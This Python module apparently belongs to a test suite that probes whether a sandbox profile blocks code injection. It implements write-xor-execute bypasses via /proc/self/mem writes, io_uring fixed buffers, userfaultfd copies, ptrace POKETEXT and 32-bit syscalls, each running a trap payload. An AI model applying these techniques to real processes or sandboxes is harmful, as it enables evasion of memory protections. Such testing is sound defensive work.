"""Code that somebody else writes, whom no protection of ours stops: recipes of run-written-code."""

from __future__ import annotations

from attacks.consts import (
    CLONE_UNTRACED,
    CLONE_VM,
    MAP_PRIVATE,
    MAP_SHARED,
    NULL,
    O_CLOEXEC,
    O_RDONLY,
    O_RDWR,
    O_WRONLY,
    PTRACE_DETACH,
    PTRACE_POKETEXT,
    PTRACE_TRACEME,
    SIGCHLD,
    SIGSTOP,
    WALL,
    Named,
)
from attacks.executable_memory import (
    ANONYMOUS,
    PAGE,
    RW,
    RX,
    code_bytes,
    code_file,
    executable,
    memfd,
    pwrite_code,
)
from attacks.kernel import Kernel
from attacks.neighbour import SEEK_SET
from attacks.probe import TRAP_CODE
from attacks.program import Environment
from attacks.recorder import Result
from attacks.ring import Ring

AT_SYSINFO_EHDR = 33
VDSO_SPARE = 0xE00
"""Where to write in the vDSO: nothing of this program is called there."""
IORING_REGISTER_BUFFERS = Named(0, "IORING_REGISTER_BUFFERS")
UFFD_USER_MODE_ONLY = Named(1, "UFFD_USER_MODE_ONLY")
UFFD_API = Named(0xAA, "UFFD_API")
UFFDIO_API = Named(0xC018AA3F, "UFFDIO_API")
UFFDIO_REGISTER = Named(0xC020AA00, "UFFDIO_REGISTER")
UFFDIO_COPY = Named(0xC028AA03, "UFFDIO_COPY")
UFFDIO_REGISTER_MODE_MISSING = Named(1, "UFFDIO_REGISTER_MODE_MISSING")


def proc_mem(k: Kernel) -> None:
    """Writing one's memory as a file ignores its protection: the page is never writable."""
    memory = executable(k)
    pwrite_code(k, k.open(k.proc("self/mem"), O_RDWR), memory).decisive()
    k.call(memory)


def proc_mem_lseek_write(k: Kernel) -> None:
    """The position is set before: what is left is a plain write, which no profile can deny."""
    memory = executable(k)
    file = k.open(k.proc("self/mem"), O_RDWR)
    k.lseek(file, memory, SEEK_SET)
    code = code_bytes(k)
    k.write(file, code, code.size).decisive()
    k.call(memory)


def proc_thread_mem(k: Kernel) -> None:
    """The same file under its name for threads, for whoever compares the text of paths."""
    memory = executable(k)
    pwrite_code(k, k.open(k.proc("thread-self/mem"), O_RDWR), memory).decisive()
    k.call(memory)


def proc_mem_private_file(k: Kernel) -> None:
    """A private mapping of a file that was opened for reading gets code that is in no file."""
    file = k.open(k.path(), O_RDONLY)
    memory = k.mmap(NULL, PAGE, RX, MAP_PRIVATE, file, 0)
    pwrite_code(k, k.open(k.proc("self/mem"), O_WRONLY), memory).decisive()
    k.call(memory)


def proc_mem_text(k: Kernel) -> None:
    """The program's own text is written over: nothing is mapped and no protection changes."""
    hook = k.env(Environment.VICTIM_HOOK)
    pwrite_code(k, k.open(k.proc("self/mem"), O_RDWR), hook).decisive()
    k.call(hook)


def proc_mem_vdso(k: Kernel) -> None:
    """Even the code that the kernel maps into every process is written over, in a copy."""
    vector = k.buffer(512, name="auxv")
    size = k.read(k.open(k.proc("self/auxv"), O_RDONLY), vector, 512)
    at = k.find(vector, size, AT_SYSINFO_EHDR.to_bytes(8, "little"))
    vdso = k.load(k.add(vector, at), 8)
    place = k.add(vdso, VDSO_SPARE)
    pwrite_code(k, k.open(k.proc("self/mem"), O_RDWR), place).decisive()
    k.call(place)


def proc_mem_io_uring(k: Kernel) -> None:
    """A ring writes the memory as a file: no write call."""
    memory = executable(k)
    file = k.open(k.proc("self/mem"), O_RDWR)
    code = code_bytes(k)
    k.ring().submit("WRITE", fd=file, addr=code, length=code.size, off=memory).decisive()
    k.call(memory)


def proc_mem_i386(k: Kernel) -> None:
    """The 32-bit table has mmap2, and a pwrite64 whose offset comes in two halves."""
    memory = k.i386.raw("mmap2", NULL, PAGE, RX, ANONYMOUS, -1, 0)
    file = k.i386.open(k.proc("self/mem"), O_RDWR)
    code = code_bytes(k)
    k.i386.raw("pwrite64", file, code, code.size, memory, 0).decisive()
    k.call(memory)


def userfaultfd_copy(k: Kernel) -> None:
    """The kernel fills an executable page that was never writable: mprotect has no part in it."""
    descriptor = k.userfaultfd(UFFD_USER_MODE_ONLY | O_CLOEXEC)
    k.ioctl(descriptor, UFFDIO_API, k.struct("QQQ", UFFD_API, 0, 0, name="api"))
    memory = executable(k)
    mode = UFFDIO_REGISTER_MODE_MISSING
    k.ioctl(descriptor, UFFDIO_REGISTER, k.struct("QQQQ", memory, PAGE, mode, 0, name="register"))
    page = k.recording.allocate(TRAP_CODE, PAGE, PAGE, "page")
    k.ioctl(
        descriptor, UFFDIO_COPY, k.struct("QQQQQ", memory, page, PAGE, 0, 0, name="copy")
    ).decisive()
    k.call(memory)


def io_uring_fixed_buffer(k: Kernel) -> None:
    """A ring keeps the right to write a page that has since become read-only and executable."""
    memory = k.mmap(NULL, PAGE, RW, ANONYMOUS, -1, 0)
    k.store(memory, 0, 1, 0x90)  # the page must be there when it is registered
    ring = k.ring()
    _register_buffer(k, ring, memory)
    k.mprotect(memory, PAGE, RX)
    source = code_file(k)
    ring.submit("READ_FIXED", fd=source, addr=memory, length=len(TRAP_CODE)).decisive()
    k.call(memory)


def io_uring_fixed_buffer_alias(k: Kernel) -> None:
    """The writable mapping is gone, and the ring still writes the page that runs elsewhere."""
    file = memfd(k)
    writable = k.mmap(NULL, PAGE, RW, MAP_SHARED, file, 0)
    memory = k.mmap(NULL, PAGE, RX, MAP_SHARED, file, 0)
    ring = k.ring()
    _register_buffer(k, ring, writable)
    k.munmap(writable, PAGE)
    source = code_file(k)
    ring.submit("READ_FIXED", fd=source, addr=writable, length=len(TRAP_CODE)).decisive()
    k.call(memory)


def ptrace_poketext(k: Kernel) -> None:
    """A child that shares the memory is traced, and its memory written: a tracer may do that."""
    memory = executable(k)
    # A process has one tracer, and the judge follows all others.
    child = k.clone(CLONE_VM | CLONE_UNTRACED | SIGCHLD, k.stack())
    with k.child(child):
        k.ptrace(PTRACE_TRACEME, 0, NULL, NULL)
        k.kill(k.getpid(), SIGSTOP)
    k.wait4(child, NULL, WALL, NULL)
    code = code_bytes(k)
    for offset in range(0, code.size, 8):
        poked = k.ptrace(
            PTRACE_POKETEXT, child, k.add(memory, offset), k.load(code, offset, _width(offset))
        )
        if offset == 0:
            poked.decisive()
    k.ptrace(PTRACE_DETACH, child, NULL, NULL)
    k.call(memory)


def _register_buffer(k: Kernel, ring: Ring, memory: Result) -> None:
    vector = k.struct("QQ", memory, PAGE, name="iov")
    k.raw("io_uring_register", ring.fd, IORING_REGISTER_BUFFERS, vector, 1)


def _width(offset: int) -> int:
    """How much of the code there is from here, at most a word; what is not there reads as 0."""
    return min(8, 1 << (len(TRAP_CODE) - offset).bit_length() - 1)
